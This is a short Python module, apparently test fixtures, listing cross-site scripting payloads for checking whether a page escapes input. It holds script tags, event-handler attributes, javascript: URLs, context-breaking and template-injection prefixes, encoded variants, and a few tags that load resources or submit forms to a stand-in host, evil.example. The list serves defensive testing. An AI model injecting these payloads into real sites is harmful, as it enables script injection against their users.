"""Texts that run as a script where a page forgets to escape them."""

_TAGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0>",
    "<style>@import '//evil.example/a.css'</style>", "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
]  # fmt: skip
_BREAKS = ["\"'>", "</textarea>", "</title>", "--></script>", "{{7*7}}{% now %}"]
XSS = [
    *_TAGS, *(f"{_BREAKS[n % len(_BREAKS)]}{tag}" for n, tag in enumerate(_TAGS)),
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "javascript:alert(1)//",
    "@anna<script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
]  # fmt: skip
